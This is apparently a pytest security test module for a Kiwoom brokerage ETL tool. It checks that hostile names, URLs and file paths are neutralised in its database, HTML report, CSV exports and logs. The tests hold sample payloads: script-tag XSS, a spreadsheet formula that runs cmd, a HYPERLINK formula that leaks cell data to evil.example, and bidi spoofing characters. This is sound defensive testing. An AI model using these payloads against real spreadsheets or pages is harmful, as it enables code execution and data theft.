"""The hostile-input campaign: what an attacker, a hostile counterparty or a careless user can put in front of
kiwoom-etl — names and remarks with markup, bidi controls, formula prefixes, NUL, very long and empty text; URLs
with secrets in every position; file-writing commands aimed at the database and the state directory; JSON nested
deeper than the stack; a request body that claims to be a terabyte — and the invariants that must hold after it.

Every input enters where a real one does (the transform of a page as Kiwoom sends it, the import of a JSONL file,
the simulator on loopback, the command line) and is checked where a person meets it (the tables, the views, the
report in a browser, a CSV in a spreadsheet, Parquet, Portfolio Performance, Ghostfolio, the logs, the terminal).
"""

from __future__ import annotations

import csv
import io
import json
import logging
import random
import re
import socket
import threading
import uuid
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import Engine, func, select, text
from sqlalchemy.engine import make_url

from etl.cli import cli
from etl.kiwoom.accounts import KnownAccounts
from etl.kiwoom.pages import parse_json_object
from etl.kiwoom.tokens import TokenCache
from etl.logs import configure_logging
from etl.settings import Account, Secret
from etl.sim.accounts import make_account
from etl.sim.simulator import Simulator, serve
from etl.store.engine import make_engine
from etl.store.models import EtlRun, PositionSnapshot
from tests.support import kiwoom_etl
from tests.support.answers import line as jsonl_line
from tests.support.books import Book, Line, import_books
from tests.support.report_page import Page
from tests.support.schema import migrated
from tests.support.story import ACCOUNT, ledger_line, load

# JSON nested deeper than Python's recursion limit: json raises RecursionError, not ValueError.
DEEP = "[" * 100_000 + "]" * 100_000


# Beyond the list: what the campaign found, each fixed at its root.


def test_json_nested_deeper_than_the_stack_is_not_a_page() -> None:
    assert parse_json_object('{"a": ' + DEEP + "}") is None


def test_an_import_line_nested_deeper_than_the_stack_is_refused_and_the_others_load(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'kiwoom_etl.db'}"
    assert kiwoom_etl("migrate", "--database-url", db).returncode == 0
    deep = '{"account_no": "5012345678", "exchange": "KRX", "captured_at": "2026-11-05T06:30:00Z", "pages": ' + DEEP
    source = tmp_path / "pages.jsonl"
    source.write_text("\n".join([jsonl_line(1), deep + "}", jsonl_line(2)]) + "\n", encoding="utf-8")
    result = kiwoom_etl("import", str(source), "--database-url", db)
    assert result.returncode == 1, result.stderr
    assert "internal error" not in result.stderr and "line 2: not a JSON object" in result.stderr
    assert "3 line(s): 2 loaded, 0 already loaded, 1 refused" in result.stdout


def test_an_import_file_saved_with_a_byte_order_mark_loads_its_first_line_once(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'kiwoom_etl.db'}"
    assert kiwoom_etl("migrate", "--database-url", db).returncode == 0
    marked, plain = tmp_path / "marked.jsonl", tmp_path / "plain.jsonl"
    marked.write_text("\ufeff" + jsonl_line(1) + "\n", encoding="utf-8")
    plain.write_text(jsonl_line(1) + "\n", encoding="utf-8")
    first = kiwoom_etl("import", str(marked), "--database-url", db)
    assert first.returncode == 0 and "1 loaded" in first.stdout, first.stderr
    again = kiwoom_etl("import", str(plain), "--database-url", db)
    assert again.returncode == 0 and "1 already loaded" in again.stdout, again.stdout


@pytest.mark.postgres
def test_a_text_too_long_for_a_postgresql_index_refuses_its_line_not_the_import(
    postgres_url: str, tmp_path: Path
) -> None:
    assert kiwoom_etl("migrate", "--database-url", postgres_url).returncode == 0
    # Incompressible: PostgreSQL compresses an index row before it measures it.
    rng = random.Random(7)
    noise = "".join(chr(rng.randrange(0x4E00, 0x9FFF)) for _ in range(4_000))
    huge = jsonl_line(1)
    page = json.loads(huge)
    page["pages"][0]["stk_cntr_remn"][0]["stk_cd"] = noise  # position_snapshots.stock_code is indexed
    source = tmp_path / "pages.jsonl"
    source.write_text(json.dumps(page, ensure_ascii=False) + "\n" + jsonl_line(2) + "\n", encoding="utf-8")
    result = kiwoom_etl("import", str(source), "--database-url", postgres_url)
    assert result.returncode == 1 and "line 1:" in result.stderr, result.stderr
    assert "2 line(s): 1 loaded, 0 already loaded, 1 refused" in result.stdout, result.stdout


def test_a_spool_file_nested_deeper_than_the_stack_stays_in_the_spool_named(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'kiwoom_etl.db'}"
    assert kiwoom_etl("migrate", "--database-url", db).returncode == 0
    spooled = tmp_path / "state" / "spool" / "20261105T063000000000-5012345678-KRX-0123456789ab.json"
    spooled.parent.mkdir(parents=True)
    spooled.write_text('{"format": 1, "pages": ' + DEEP + "}", encoding="utf-8")
    result = kiwoom_etl("flush", "--database-url", db, env={"KIWOOM_ETL_STATE_DIR": str(tmp_path / "state")})
    assert "internal error" not in result.stderr and spooled.name in result.stderr
    assert spooled.exists()


def test_state_files_nested_deeper_than_the_stack_are_unreadable_not_a_crash(tmp_path: Path) -> None:
    cache = TokenCache(tmp_path)
    (tmp_path / "tokens").mkdir()
    (tmp_path / "tokens" / "k.json").write_text(DEEP, encoding="utf-8")
    (tmp_path / "accounts.json").write_text(DEEP, encoding="utf-8")
    account = Account(Secret("appkey"), Secret("secretkey"), source="accounts[0]")
    assert cache.load("k") is None
    assert KnownAccounts(tmp_path, "https://api.kiwoom.com").number(account) is None


def test_a_text_log_line_stays_one_line_and_shows_controls_as_escapes(capsys: pytest.CaptureFixture[str]) -> None:
    configure_logging("INFO")
    try:
        remark = "이체입금\n2026-11-16T00:00:00Z ERROR etl: forged\x1b[2J\u202e0497\r"
        logging.getLogger("etl.test").warning("ledger line: %s", remark)
    finally:
        logging.getLogger().handlers[:] = [h for h in logging.getLogger().handlers if h.get_name() != "kiwoom-etl"]
    written = capsys.readouterr().err
    assert written.count("\n") == 1 and "\x1b" not in written and "\u202e" not in written and "\r" not in written
    assert r"이체입금\n2026-11-16T00:00:00Z ERROR etl: forged\x1b[2J\u202e0497\r" in written


class _Recorder(BaseHTTPRequestHandler):
    """A host that answers every POST with a 307 to itself under /stolen, and records what reaches /stolen."""

    seen: ClassVar[list[bytes]] = []

    def do_POST(self) -> None:  # noqa: N802 - the name http.server calls
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if self.path.startswith("/stolen"):
            self.seen.append(body)
            self.send_response(200)
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"{}")
            return
        self.send_response(307)
        self.send_header("Location", f"http://127.0.0.1:{self.server.server_address[1]}/stolen{self.path}")
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:
        pass


def _account_at(server: ThreadingHTTPServer, tmp_path: Path, secret_key: str) -> dict[str, str]:
    """One account whose base URL is `server` on loopback, a SQLite file and a state directory in `tmp_path`."""
    return {
        "KIWOOM_APPKEY": "app-key",
        "KIWOOM_SECRETKEY": secret_key,
        "KIWOOM_BASE_URL": f"http://127.0.0.1:{server.server_address[1]}",
        "KIWOOM_ETL_DATABASE_URL": f"sqlite:///{tmp_path / 'kiwoom_etl.db'}",
        "KIWOOM_ETL_STATE_DIR": str(tmp_path / "state"),
    }


def test_a_redirect_never_carries_the_secret_key_elsewhere(tmp_path: Path) -> None:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        env = _account_at(server, tmp_path, f"{SECRET}-secretkey")
        assert invoke("migrate", env=env).exit_code == 0
        result = invoke("snapshot", env=env)
    finally:
        server.shutdown()
        server.server_close()
    assert _Recorder.seen == [] and result.exit_code == 1, result.output
    assert SECRET not in result.output


@pytest.mark.parametrize("length", ["1000000000000", "-1", "12abc", "٣"])
def test_the_simulator_refuses_a_body_length_it_will_not_read(length: str) -> None:
    with serve(Simulator(accounts=[make_account(1, 1)])) as url:
        host, port = url.removeprefix("http://").split(":")
        with socket.create_connection((host, int(port)), timeout=30) as connection:
            connection.sendall(
                f"POST /oauth2/token HTTP/1.1\r\nHost: x\r\nContent-Length: {length}\r\n\r\n{{}}".encode()
            )
            status = connection.recv(200).split(b"\r\n", 1)[0]
    assert status.startswith(b"HTTP/1.1 413 ")


def test_a_carriage_return_inside_a_cell_does_not_split_the_csv_row(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'kiwoom_etl.db'}"
    engine = make_engine(url)
    migrated(engine)
    remark = "이체입금\r5000001111,2026-11-16,deposit,999999999"
    load(engine, tmp_path, [], [ledger_line(DAY, 1, remark, 1_000, rcpmnyer="a\rb")])
    engine.dispose()
    out = tmp_path / "ledger.csv"
    result = invoke("export", "account_transactions", "--database-url", url, "--out", str(out))
    assert result.exit_code == 0, result.output
    (row,) = csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8"), newline=""))
    assert (row["remark"], row["depositor"]) == (remark, "a\rb")
    out = tmp_path / "pp.csv"
    result = invoke(
        "export", "account_transactions", "--format", "portfolio-performance", "--database-url", url, "--out", str(out)
    )
    assert result.exit_code == 0, result.output
    (row,) = csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8"), newline=""))
    assert row["Note"].startswith(remark)


# Hostile text through transform → tables → views → report → CSV/Parquet → Portfolio Performance / Ghostfolio.

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BIDI = "\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
MARKUP = '<a href="https://evil.example/">공지</a><b>x</b>'
HOSTILE = [
    MARKUP,
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "삼성\u202e207940",  # shown reversed: 049702
    "\u2066a\u2069\u2067b\u2069\u2068c\u2069\u200ed\u200f\u202ae\u202c\u202bf\u202c\u202dg\u202c",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "가" * 10_000,
    "",
]
DAY = date(2026, 11, 16)
MOMENT = datetime(2026, 11, 16, 6, 40, tzinfo=UTC)  # 15:40 in Seoul


def hostile_lines(names: list[str], first_code: int = 100001) -> tuple[Line, ...]:
    """One line a name; every other one lost money, so that negative numbers are in the files too."""
    return tuple(
        Line(f"{first_code + n:06d}", name, 10, 9_000 if n % 2 else 11_000, 10_000) for n, name in enumerate(names)
    )


def ledger_of(names: list[str]) -> list[dict[str, str]]:
    """Per name: a deposit whose remark and depositor start with it, and a buy of the stock it names, its remark too."""
    lines = []
    for n, name in enumerate(names):
        lines.append(ledger_line(DAY, 2 * n + 1, f"{name}이체입금", 1_000_000, rcpmnyer=name))
        lines.append(
            ledger_line(
                DAY,
                2 * n + 2,
                f"{name}장내매수",
                100_000,
                cntr_dt=f"{DAY - timedelta(days=2):%Y%m%d}",
                stk_cd=f"A{100001 + n:06d}",
                stk_nm=name,
                isin_cd=f"KR7{100001 + n:06d}00",
                trde_qty_jwa_cnt="10",
                trde_unit="10,000",
                exct_amt="100015",
                cmsn="15",
            )
        )
    return lines


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Engine, Path]]:
    """One SQLite file for the module: a snapshot and a ledger full of hostile text, and a refused NUL name."""
    folder = tmp_path_factory.mktemp("hostile")
    url = f"sqlite:///{folder / 'kiwoom_etl.db'}"
    engine = make_engine(url)
    migrated(engine)
    load(engine, folder, [Book(ACCOUNT, "KRX", MOMENT, hostile_lines(HOSTILE))], ledger_of(HOSTILE))
    import_books(engine, [Book("NUL", "KRX", MOMENT, (Line("100001", "삼성\x00전자", 1, 1, 1),))], folder / "nul")
    yield url, engine, folder
    engine.dispose()


def invoke(*args: str, env: dict[str, str] | None = None) -> Any:
    return CliRunner().invoke(cli, list(args), env=env)


def guarded(value: str) -> str:
    """A CSV text cell as a spreadsheet must get it: a formula's first character defused with `'`."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def test_the_tables_and_views_keep_exactly_what_kiwoom_sent(hostile_db: tuple[str, Engine, Path]) -> None:
    _, engine, _ = hostile_db
    kept = sorted(name.strip(" ") for name in HOSTILE)
    with engine.connect() as connection:
        stored = connection.execute(select(PositionSnapshot.stock_name).where(PositionSnapshot.account_no == ACCOUNT))
        assert sorted(stored.scalars()) == kept
        latest = connection.execute(
            text("SELECT stock_name FROM latest_positions WHERE account_no = :a"), {"a": ACCOUNT}
        )
        assert sorted(latest.scalars()) == kept
        ledger = connection.execute(text("SELECT remark, depositor, stock_name FROM account_transactions")).all()
    assert sorted(r.remark for r in ledger) == sorted(
        [f"{n}이체입금" for n in HOSTILE] + [f"{n}장내매수" for n in HOSTILE]
    )
    assert sorted(r.depositor for r in ledger if r.depositor is not None) == sorted(HOSTILE)
    assert sorted(r.stock_name for r in ledger if r.stock_name is not None) == sorted(HOSTILE)


def test_a_nul_is_refused_loudly_with_the_field_named(hostile_db: tuple[str, Engine, Path]) -> None:
    _, engine, _ = hostile_db
    with engine.connect() as connection:
        run = connection.execute(select(EtlRun.status, EtlRun.error).where(EtlRun.account_no == "NUL")).one()
    assert run.status == "failed" and "stk_nm" in run.error and "NUL" in run.error


def figure_strings(value: Any) -> Iterator[str]:
    """Every string of a figure's JSON but its templates' (hovertemplate, texttemplate: the program's own markup)."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            if not key.endswith("template"):
                yield from figure_strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from figure_strings(item)


def test_the_report_shows_every_name_as_text_and_no_bidi_control(
    hostile_db: tuple[str, Engine, Path], tmp_path: Path
) -> None:
    url, _, _ = hostile_db
    out = tmp_path / "report.html"
    result = invoke("report", "--database-url", url, "--account", ACCOUNT, "--out", str(out))
    assert result.exit_code == 0, result.output
    html = out.read_text(encoding="utf-8")
    page = Page(html)
    for tag, attributes in page.tags:
        assert tag not in ("a", "b", "img"), (tag, attributes)
        assert not any("evil.example" in str(v) or name.startswith("on") for name, v in attributes.items())
    assert not any("alert(1)" in script for script in page.scripts)
    assert not any(ch in html for ch in BIDI)
    (section,) = page.sections
    cells = {cell for table in section.tables.values() for row in table for cell in row}
    assert any(MARKUP in cell for cell in cells) and any("<script>alert(1)</script>" in cell for cell in cells)
    assert not any(ch in cell for cell in cells for ch in BIDI)
    strings = [s for figure in section.figures.values() for s in figure_strings(figure)]
    assert any("공지" in s for s in strings)  # the allocation names the stock …
    for string in strings:  # … but plotly's HTML subset never gets a tag out of data, nor a bidi control
        assert not re.search(r"<\s*[A-Za-z/!]", string), string
        assert not any(ch in string for ch in BIDI), string


def csv_rows(data: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data, newline="")))


@pytest.mark.parametrize("raw", [False, True])
def test_csv_defuses_formulas_in_text_cells_and_leaves_numbers_alone(
    hostile_db: tuple[str, Engine, Path], raw: bool
) -> None:
    url, _, _ = hostile_db
    flags = ["--raw-text"] if raw else []
    result = invoke("export", "position_snapshots", "--database-url", url, "--account", ACCOUNT, *flags)
    assert result.exit_code == 0, result.output
    rows = csv_rows(result.stdout)
    expected = sorted(name if raw else guarded(name) for name in HOSTILE)
    assert sorted(row["stock_name"] for row in rows) == expected
    losses = [row["profit_loss"] for row in rows if row["profit_loss"].startswith(("-", "'"))]
    assert losses and all(re.fullmatch(r"-[0-9]+", loss) for loss in losses)  # a number stays a number


def test_the_portfolio_performance_csv_defuses_notes_and_security_names(
    hostile_db: tuple[str, Engine, Path], tmp_path: Path
) -> None:
    url, _, _ = hostile_db
    out = tmp_path / "pp.csv"
    result = invoke(
        "export", "account_transactions", "--format", "portfolio-performance", "--database-url", url, "--out", str(out)
    )
    assert result.exit_code == 0, result.output
    rows = csv_rows(out.read_bytes().decode("utf-8"))  # as a CSV reader opens it: a CR stays a CR
    notes = [row["Note"] for row in rows if row["Type"] == "Deposit"]
    assert len(notes) == len(HOSTILE)
    for note in notes:
        assert not note.startswith(FORMULA_STARTS), note
    assert sum(note.startswith("'") for note in notes) == sum(n.startswith(FORMULA_STARTS) for n in HOSTILE)
    names = sorted(row["Security Name"] for row in rows if row["Type"] == "Buy")
    assert names == sorted(guarded(n) for n in HOSTILE)
    assert all(not row["Value"].startswith("'") for row in rows)


def test_parquet_and_ghostfolio_keep_the_literal_values(hostile_db: tuple[str, Engine, Path], tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    url, _, _ = hostile_db
    out = tmp_path / "positions.parquet"
    result = invoke("export", "position_snapshots", "--format", "parquet", "--database-url", url, "--out", str(out))
    assert result.exit_code == 0, result.output
    names = pq.read_table(out).column("stock_name").to_pylist()
    assert sorted(n for n in names if n is not None) == sorted(n.strip(" ") for n in HOSTILE)
    out = tmp_path / "ghostfolio.json"
    result = invoke(
        "export", "account_transactions", "--format", "ghostfolio", "--database-url", url, "--out", str(out)
    )
    assert result.exit_code == 0, result.output
    comments = [a["comment"] for a in json.loads(out.read_text(encoding="utf-8"))["activities"] if a["type"] == "BUY"]
    # A note is the remark with where it comes from, stripped of surrounding white space.
    assert sorted(c.split(" (kiwoom ")[0] for c in comments) == sorted(f"{n}장내매수".lstrip() for n in HOSTILE)


formula_text = st.one_of(
    st.tuples(st.sampled_from([*FORMULA_STARTS, "<b>", "\u202e", ""]), st.text(max_size=40)).map("".join),
    st.text(alphabet=st.sampled_from([*"=+-@\t\r<>&\"'|!가1 ", *BIDI]), max_size=30),
).filter(lambda s: "\x00" not in s and not any("\ud800" <= c <= "\udfff" for c in s))


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(names=st.lists(formula_text, min_size=1, max_size=4))
def test_any_name_is_kept_in_the_database_and_defused_in_csv(
    hostile_db: tuple[str, Engine, Path], names: list[str]
) -> None:
    url, engine, folder = hostile_db
    account = f"H{uuid.uuid4().hex[:12]}"  # an account of its own: a shrink's replay is checked afresh
    import_books(engine, [Book(account, "KRX", MOMENT, hostile_lines(names))], folder / account)
    out = folder / f"{account}.csv"  # a file, byte for byte: the runner's stdout turns CR LF into LF
    result = invoke("export", "latest_positions", "--database-url", url, "--account", account, "--out", str(out))
    assert result.exit_code == 0, result.output
    assert sorted(row["stock_name"] for row in csv_rows(out.read_bytes().decode("utf-8"))) == sorted(
        guarded(name.strip(" ")) for name in names
    )
    with engine.connect() as connection:
        stored = connection.execute(
            select(PositionSnapshot.stock_name).where(PositionSnapshot.account_no == account)
        ).scalars()
        assert sorted(stored) == sorted(name.strip(" ") for name in names)


@pytest.mark.parametrize("label", ["계좌\u202e1234", "\u2066ISA\u2069"])
def test_the_status_table_shows_a_bidi_account_label_as_an_escape(tmp_path: Path, label: str) -> None:
    url = f"sqlite:///{tmp_path / 'kiwoom_etl.db'}"
    engine = make_engine(url)
    migrated(engine)
    import_books(engine, [Book(label, "KRX", MOMENT, hostile_lines(["x"]))], tmp_path / "pages")
    engine.dispose()
    result = invoke("status", "--database-url", url)  # exit 1: the run is old, which is not the point here
    assert label.strip("\u202e\u2066\u2069")[:2] in result.output and "Traceback" not in result.output
    assert not any(ch in result.output for ch in BIDI)


def test_the_status_table_shows_terminal_controls_in_a_label_as_escapes(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'kiwoom_etl.db'}"
    engine = make_engine(url)
    migrated(engine)
    import_books(engine, [Book("acct\x1b[2J\nforged", "KRX", MOMENT, hostile_lines(["x"]))], tmp_path / "pages")
    engine.dispose()
    result = invoke("status", "--database-url", url)  # exit 1: the run is old, which is not the point here
    assert "acct" in result.output and "Traceback" not in result.output
    assert "\x1b" not in result.output and "\nforged" not in result.output


# Secrets in every position of a URL, through every output.

SECRET = "S3cr3tZ"
# Secrets in every place a URL can hold one, in mixed case; port 1 refuses at once, so every command fails there.
UNREACHABLE = (
    f"postgresql://kiwoom:{SECRET}-user@127.0.0.1:1/kiwoom?password={SECRET}-q&sslpassword={SECRET}-ssl"
    f"&PassWord={SECRET}-mixed&access_token={SECRET}-token&Api_Key={SECRET}-key&X-Secret={SECRET}-x"
)
READERS = [
    ["migrate"],
    ["status"],
    ["export", "etl_runs"],
    ["report", "--out", "{tmp}/report.html"],
    ["flush"],
    ["returns"],
    ["doctor"],
]


@pytest.mark.parametrize("log_format", ["text", "json"])
@pytest.mark.parametrize("how", ["option", "environment"])
def test_no_command_prints_or_logs_a_database_url_secret(tmp_path: Path, log_format: str, how: str) -> None:
    env = {"KIWOOM_ETL_STATE_DIR": str(tmp_path / "state")}
    option = ["--database-url", UNREACHABLE] if how == "option" else []
    if how == "environment":
        env["KIWOOM_ETL_DATABASE_URL"] = UNREACHABLE
    for command in READERS:
        args = [a.format(tmp=tmp_path) for a in command]
        result = invoke(*args, *option, "--log-level", "DEBUG", "--log-format", log_format, env=env)
        assert SECRET not in result.output, (args, result.output)  # failed or not (an empty spool needs no database)
        assert "Traceback" not in result.output, (args, result.output)


@pytest.mark.parametrize("log_format", ["text", "json"])
def test_a_base_url_query_secret_is_in_no_output(
    sim_url: str, simulator: Simulator, tmp_path: Path, log_format: str
) -> None:
    account = simulator.accounts[0]
    env = {
        "KIWOOM_APPKEY": account.appkey,
        "KIWOOM_SECRETKEY": account.secretkey,
        "KIWOOM_BASE_URL": f"{sim_url}/?access_token={SECRET}-token&API_KEY={SECRET}-key",
        "KIWOOM_ETL_DATABASE_URL": f"sqlite:///{tmp_path / 'kiwoom_etl.db'}",
        "KIWOOM_ETL_STATE_DIR": str(tmp_path / "state"),
    }
    assert invoke("migrate", env=env).exit_code == 0
    for command in (["snapshot"], ["status"]):
        result = invoke(*command, "--log-level", "DEBUG", "--log-format", log_format, env=env)
        assert SECRET not in result.output, (command, result.output)
        assert "Traceback" not in result.output, (command, result.output)


def test_a_base_url_with_a_user_and_password_is_refused_at_start(
    sim_url: str, simulator: Simulator, tmp_path: Path
) -> None:
    account = simulator.accounts[0]
    env = {
        "KIWOOM_APPKEY": account.appkey,
        "KIWOOM_SECRETKEY": account.secretkey,
        "KIWOOM_BASE_URL": sim_url.replace("http://", f"http://me:{SECRET}@"),
        "KIWOOM_ETL_DATABASE_URL": f"sqlite:///{tmp_path / 'kiwoom_etl.db'}",
        "KIWOOM_ETL_STATE_DIR": str(tmp_path / "state"),
    }
    result = invoke("snapshot", "--log-level", "DEBUG", env=env)
    assert result.exit_code == 2, result.output
    assert "Kiwoom authenticates with a token; remove user:password from" in result.output
    assert SECRET not in result.output and len(result.stderr.strip().splitlines()) == 1


@pytest.mark.postgres
def test_a_working_postgresql_url_secret_is_in_no_output_nor_the_report(postgres_url: str, tmp_path: Path) -> None:
    # The test server trusts loopback: it ignores the password, which every output must still hide.
    url = (
        make_url(postgres_url)
        .set(password=f"{SECRET}-user")
        .update_query_dict({"sslpassword": f"{SECRET}-ssl"})
        .render_as_string(hide_password=False)
    )
    out = tmp_path / "report.html"
    outputs = []
    for command in (["migrate"], ["status"], ["report", "--out", str(out)], ["export", "etl_runs"], ["doctor"]):
        result = invoke(*command, "--database-url", url, "--log-level", "DEBUG", env={})
        outputs.append(result.output)
    assert out.exists() and SECRET not in out.read_text(encoding="utf-8")
    assert not any(SECRET in output for output in outputs), outputs


# Every file-writing command against every protected path, with and without --force.

WRITERS = {
    "export csv": ["export", "etl_runs", "--out"],
    "export parquet": ["export", "etl_runs", "--format", "parquet", "--out"],
    "export portfolio-performance": ["export", "account_transactions", "--format", "portfolio-performance", "--out"],
    "export ghostfolio": ["export", "account_transactions", "--format", "ghostfolio", "--out"],
    "report": ["report", "--out"],
}
PROTECTED = [
    "kiwoom_etl.db",
    "kiwoom_etl.db-wal",
    "kiwoom_etl.db-shm",
    "kiwoom_etl.db-journal",
    "state/accounts.json",
    "state/tokens/0123456789abcdef0123456789abcdef.json",
    "state/spool/20261116T064000000000-5000001111-KRX-0123456789ab.json",
    "elsewhere/link-to-the-database.db",  # a symbolic link to the database file
    "linked-folder/kiwoom_etl.db",  # the database through a symbolic link to its folder
]


@pytest.fixture
def protected(tmp_path: Path) -> tuple[dict[str, str], dict[str, bytes | None]]:
    """A configured, migrated SQLite file with a snapshot, a state directory with a spooled capture; what each
    protected path holds now (None: absent)."""
    db = tmp_path / "kiwoom_etl.db"
    engine = make_engine(f"sqlite:///{db}")
    migrated(engine)
    import_books(engine, [Book(ACCOUNT, "KRX", MOMENT, hostile_lines(["삼성전자"]))], tmp_path / "pages")
    engine.dispose()
    for name in PROTECTED[4:7]:
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text('{"kept": true}', encoding="utf-8")
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / PROTECTED[7]).symlink_to(db)
    (tmp_path / "linked-folder").symlink_to(tmp_path)
    env = {"KIWOOM_ETL_DATABASE_URL": f"sqlite:///{db}", "KIWOOM_ETL_STATE_DIR": str(tmp_path / "state")}
    return env, {name: held(tmp_path / name) for name in PROTECTED}


def held(path: Path) -> bytes | None:
    return path.read_bytes() if path.exists() else None


@pytest.mark.parametrize("force", [False, True], ids=["", "force"])
@pytest.mark.parametrize("target", PROTECTED)
@pytest.mark.parametrize("writer", list(WRITERS))
def test_no_command_writes_over_the_database_or_the_state_directory(
    protected: tuple[dict[str, str], dict[str, bytes | None]], tmp_path: Path, writer: str, target: str, force: bool
) -> None:
    env, before = protected
    result = invoke(*WRITERS[writer], str(tmp_path / target), *(["--force"] if force else []), env=env)
    assert result.exit_code == 2, result.output
    assert len(result.stderr.strip().splitlines()) == 1 and result.stderr.startswith("kiwoom-etl: error: ")
    assert {name: held(tmp_path / name) for name in PROTECTED} == before


@pytest.mark.parametrize("force", [False, True], ids=["", "force"])
@pytest.mark.parametrize("target", [PROTECTED[0], PROTECTED[6]])
def test_the_demo_does_not_write_its_report_over_the_database_or_the_spool(
    protected: tuple[dict[str, str], dict[str, bytes | None]], tmp_path: Path, target: str, force: bool
) -> None:
    env, before = protected
    database = ["--database-url", env["KIWOOM_ETL_DATABASE_URL"]]
    result = invoke(
        "demo", *database, "--days", "3", "--report", str(tmp_path / target), *(["--force"] if force else []), env=env
    )
    assert result.exit_code == 2, result.output
    assert len(result.stderr.strip().splitlines()) == 1 and result.stderr.startswith("kiwoom-etl: error: ")
    assert {name: held(tmp_path / name) for name in PROTECTED} == before


@pytest.mark.parametrize("writer", list(WRITERS))
def test_a_forced_output_replaces_a_symbolic_link_never_the_file_it_points_to(
    protected: tuple[dict[str, str], dict[str, bytes | None]], tmp_path: Path, writer: str
) -> None:
    env, _ = protected
    foreign = tmp_path / "someone-elses.txt"
    foreign.write_bytes(b"not yours")
    planted = tmp_path / "shared" / "out.file"  # as in a shared /tmp, where another user may plant a link
    planted.parent.mkdir()
    planted.symlink_to(foreign)
    result = invoke(*WRITERS[writer], str(planted), "--force", env=env)
    assert result.exit_code in (0, 2) and "No such option" not in result.output, result.output
    assert foreign.read_bytes() == b"not yours", result.output


class _Flood(BaseHTTPRequestHandler):
    """A server at the base URL that answers with an endless body and no Content-Length."""

    protocol_version = "HTTP/1.0"  # the body ends when the connection closes: no length to refuse up front
    sent = 0

    def do_POST(self) -> None:  # noqa: N802 - the name http.server calls
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.end_headers()
        chunk = b" " * 2**20
        try:
            for _ in range(64):  # 64 MiB at most, should the client read on
                self.wfile.write(chunk)
                type(self).sent += len(chunk)
        except OSError:  # the client stopped reading: what the test wants
            pass

    def log_message(self, format: str, *args: Any) -> None:
        pass


def test_an_endless_answer_is_read_no_further_than_the_cap(tmp_path: Path) -> None:
    from etl.kiwoom.client import MAX_ANSWER_BYTES

    server = ThreadingHTTPServer(("127.0.0.1", 0), _Flood)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        env = _account_at(server, tmp_path, "secret-key")
        assert invoke("migrate", env=env).exit_code == 0
        result = invoke("snapshot", env=env)
    finally:
        server.shutdown()
        server.server_close()
    assert result.exit_code == 1, result.output
    assert f"over {MAX_ANSWER_BYTES // 2**20} MiB, not read further" in result.output
    assert _Flood.sent < 64 * 2**20  # the client hung up; it did not take the whole flood


# Hostile market data: the instrument lists (ka10099/ka10100), the bars (ka20006/ka10081), Kiwoom's realised profit
# (ka10074), through the simulator on loopback into a real database, and out through the exports.

MARKET_END = date(2026, 11, 20)  # a Friday: the simulator's today
INSTRUMENT_TEXT = [
    MARKUP,
    "<script>alert(1)</script>",
    "삼성\u202e207940",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    'a "quoted", comma\nand a newline',
    "가" * 10_000,
]


def _market_jobs(url: str, engine: Engine, tmp_path: Path, simulator: Simulator, hour: int = 8) -> Any:
    from etl.app.market import MarketJobs
    from etl.clock import KST
    from tests.support import Clock, make_settings, sim_accounts

    clock = Clock(datetime.combine(MARKET_END, datetime.min.time().replace(hour=hour), tzinfo=KST))
    settings = make_settings(url, str(engine.url), tmp_path / "state", sim_accounts(simulator))
    return MarketJobs(settings, engine, clock=clock)


def _market_simulator() -> Simulator:
    return Simulator(
        accounts=[make_account(1, 3)], page_size=7, today=lambda: MARKET_END, retry_after=None, rate_per_second=1000
    )


@pytest.mark.parametrize("field", ["name", "upName", "marketName"])
@pytest.mark.parametrize("hostile", INSTRUMENT_TEXT, ids=range(len(INSTRUMENT_TEXT)))
def test_an_instrument_s_text_is_kept_as_sent_and_defused_in_a_csv_export(
    tmp_path: Path, field: str, hostile: str
) -> None:
    from etl.apis.instruments import Instrument
    from etl.app.market import refresh_instruments

    url = f"sqlite:///{tmp_path / 'kiwoom_etl.db'}"
    engine = make_engine(url)
    migrated(engine)
    simulator = _market_simulator()
    simulator.inject("bad_value", api_id="ka10099", field=field, value=hostile)  # KOSPI's list, its first row
    with serve(simulator) as sim:
        jobs = _market_jobs(sim, engine, tmp_path, simulator)
        done = refresh_instruments(jobs)
        jobs.close()
    assert done.ok, [r.error for r in done.results]
